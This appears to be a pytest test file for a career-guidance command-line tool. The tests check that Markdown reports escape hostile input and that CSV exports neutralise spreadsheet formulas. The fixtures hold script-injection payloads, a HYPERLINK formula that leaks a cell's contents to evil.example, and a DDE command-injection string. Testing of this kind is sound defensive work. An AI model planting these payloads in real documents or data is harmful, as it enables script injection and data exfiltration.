"""Outputs safe to open: Markdown without live HTML or links, CSV without live formulas,
a BOM for Excel when asked, dates in local time."""

from __future__ import annotations

import csv
import html
import io
import json
import time

import pytest
from conftest import pattern_answers
from hypothesis import given, settings
from hypothesis import strategies as st

from jobkompas.cli import main
from jobkompas.csvout import BOM, safe_cell, safe_cell_bytes
from jobkompas.errors import ExitCode
from jobkompas.render import md_escape
from jobkompas.store import Store

markdown_it = pytest.importorskip("markdown_it")

HOSTILE_NAME = "<script>alert('name')</script>"
HOSTILE_NOTE = "<img src=x onerror=alert(1)> [click](javascript:alert(2)) <javascript:alert(3)>\nsecond line *bold*"
HOSTILE_GROUP = "[10B](javascript:alert(4))"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def run(capsys, *args):
    code = main(list(args))
    out, err = capsys.readouterr()
    return code, out, err


def answer_file(tmp_path, bank, name, respondent, likes=None):
    values = pattern_answers(bank, likes or {"I": 5}, traits=4, **{"EDU-highest": "no-fagbrev"})
    doc = {"format": "jobkompas-answers/1", "language": "en", "country": "norway", "answers": values,
           "respondent": respondent}
    path = tmp_path / name
    path.write_text(json.dumps(doc, ensure_ascii=False), encoding="utf-8")
    return path


def rendered(markdown: str) -> str:
    return markdown_it.MarkdownIt("commonmark").render(markdown)


def hostile_session(capsys, tmp_path, bank, name=HOSTILE_NAME, note=HOSTILE_NOTE, group=HOSTILE_GROUP) -> str:
    code, out, _ = run(capsys, "import", str(answer_file(tmp_path, bank, "h.json", name)), "--names", "--group", group)
    assert code == 0
    session = out.strip()
    assert run(capsys, "sessions", "note", session, note)[0] == 0
    return session


# ------------------------------------------------------------------ Markdown


def assert_inert(page: str) -> None:
    assert "<script" not in page and "<img" not in page
    assert "href=" not in page  # no link at all: user text cannot make one


@pytest.mark.slow
def test_markdown_report_shows_hostile_name_note_and_group_as_text(capsys, tmp_path, bank):
    session = hostile_session(capsys, tmp_path, bank)
    code, out, _ = run(capsys, "report", session, "--format", "markdown", "--include-names", "--counsellor")
    assert code == 0
    page = rendered(out)
    assert_inert(page)
    text = html.unescape(page)
    assert "<script>alert('name')</script>" in text  # shown, as text
    assert "[click](javascript:alert(2))" in text and "[10B](javascript:alert(4))" in text


@pytest.mark.slow
def test_a_multi_line_note_keeps_its_lines_in_markdown(capsys, tmp_path, bank):
    session = hostile_session(capsys, tmp_path, bank, name="Kari", note="first line\nsecond line\n- not a list", group="9A")
    code, out, _ = run(capsys, "report", session, "--format", "markdown", "--counsellor")
    page = rendered(out)
    assert "first line<br />\nsecond line<br />\n- not a list" in page


def test_an_empty_note_is_refused(capsys, tmp_path, bank):
    code, out, _ = run(capsys, "import", str(answer_file(tmp_path, bank, "e.json", None)))
    for empty in ("", "   ", "\n\n"):
        code, _, err = run(capsys, "sessions", "note", out.strip(), empty)
        assert code == ExitCode.USAGE and "empty" in err
    with Store() as store:
        assert store.get(out.strip()).notes == []


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.characters(blacklist_categories=("Cc", "Cs", "Zl", "Zp")), max_size=60))
@pytest.mark.slow
def test_escaped_text_renders_as_exactly_that_text(text):
    shown = " ".join(text.split())
    page = rendered(md_escape(text))
    if not shown:
        assert page == ""
    else:
        assert page == "<p>" + html.escape(shown, quote=False).replace('"', "&quot;") + "</p>\n"


# ------------------------------------------------------------------ CSV


@pytest.mark.parametrize("cell", ["=1+1", "+1+1", "-1+1", "@SUM(A1)", "\tx", "\rx", FORMULA, "-", "-x"])
def test_a_cell_a_spreadsheet_would_run_gets_an_apostrophe(cell):
    assert safe_cell(cell) == "'" + cell
    assert safe_cell_bytes(cell.encode()) == ("'" + cell).encode()


@pytest.mark.parametrize("cell", ["-3", "-2.5", "-0,5", "Kari", "a=b", "", "10B", " =1"])
def test_plain_text_and_negative_numbers_are_left_alone(cell):
    assert safe_cell(cell) == cell


def test_numbers_are_not_text_and_are_left_alone():
    assert safe_cell(-3) == -3 and safe_cell(-2.5) == -2.5 and safe_cell(None) is None


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_session_export_neutralises_formulas(capsys, tmp_path, bank):
    hostile_session(capsys, tmp_path, bank, name=FORMULA, group="@group")
    code, out, _ = run(capsys, "sessions", "export", "--include-names")
    header, row = cells(out)
    assert row[header.index("name")] == "'" + FORMULA and row[header.index("group")] == "'@group"


def test_score_csv_neutralises_formulas(capsys, tmp_path, bank):
    path = answer_file(tmp_path, bank, "f.json", "-cmd|' /C calc'!A0")
    code, out, _ = run(capsys, "score", str(path), "--format", "csv")
    assert code == 0 and cells(out)[1][0] == "'-cmd|' /C calc'!A0"


@pytest.mark.parametrize("ids", [["=1+2", "@x", "-5", "ok"], ["=1+2,3", "+\"q\"", "-5", "ok"]])
def test_batch_csv_neutralises_formula_ids_on_both_paths(capsys, tmp_path, bank, ids):
    """Plain ids go through the fast path; quoted ones (with commas, quotes) the careful one."""
    questions = [q for q in bank.form("mini") if q.scale != "choice"]
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(["id"] + [q.id for q in questions])
    for k, respondent in enumerate(ids):
        writer.writerow([respondent] + [str(1 + (k + j) % 5) for j in range(len(questions))])
    path = tmp_path / "class.csv"
    path.write_text(buffer.getvalue(), encoding="utf-8")
    code, out, _ = run(capsys, "batch", str(path))
    got = [row[0] for row in cells(out)[1:]]
    assert code == 0 and got == [safe_cell(i) for i in ids] and got[2] == "-5"


@pytest.mark.slow
def test_bom_only_when_asked(capsys, tmp_path, bank):
    hostile_session(capsys, tmp_path, bank, name="Åse", group="9A")
    path = answer_file(tmp_path, bank, "b.json", "Øyvind")
    for args in (("sessions", "export"), ("score", str(path), "--format", "csv"),
                 ("groups", "summary", "9A", "--format", "csv")):
        _, plain, _ = run(capsys, *args)
        _, marked, _ = run(capsys, *args, "--bom")
        assert not plain.startswith(BOM) and marked == BOM + plain, args
    questions = [q for q in bank.form("mini") if q.scale != "choice"]
    table = tmp_path / "c.csv"
    table.write_text("id," + ",".join(q.id for q in questions) + "\nÆrlig," + ",".join("3" for _ in questions) + "\n",
                     encoding="utf-8")
    run(capsys, "batch", str(table), "--out", str(tmp_path / "o1.csv"))
    run(capsys, "batch", str(table), "--bom", "--out", str(tmp_path / "o2.csv"))
    one, two = (tmp_path / "o1.csv").read_bytes(), (tmp_path / "o2.csv").read_bytes()
    assert two == b"\xef\xbb\xbf" + one and "Ærlig".encode() in one


# ------------------------------------------------------------------ local time


@pytest.fixture
def oslo(monkeypatch):
    monkeypatch.setenv("TZ", "Europe/Oslo")
    time.tzset()
    yield
    monkeypatch.undo()
    time.tzset()


@pytest.mark.slow
def test_dates_are_local_time(capsys, tmp_path, bank, oslo):
    code, out, _ = run(capsys, "import", str(answer_file(tmp_path, bank, "t.json", None)), "--group", "9A")
    session = out.strip()
    with Store() as store:  # 23:30 UTC on 1 March is 00:30 on 2 March in Oslo
        store.db.execute("UPDATE sessions SET created_at = '2026-03-01T23:30:00+00:00' WHERE id = ?", (session,))
    _, out, _ = run(capsys, "sessions", "list")
    assert "2026-03-02 00:30" in out and "2026-03-01" not in out
    _, out, _ = run(capsys, "report", session, "--format", "markdown")
    assert "2026-03-02" in out and "2026-03-01" not in out
    _, out, _ = run(capsys, "sessions", "export")
    assert "2026-03-02T00:30:00+01:00" in out
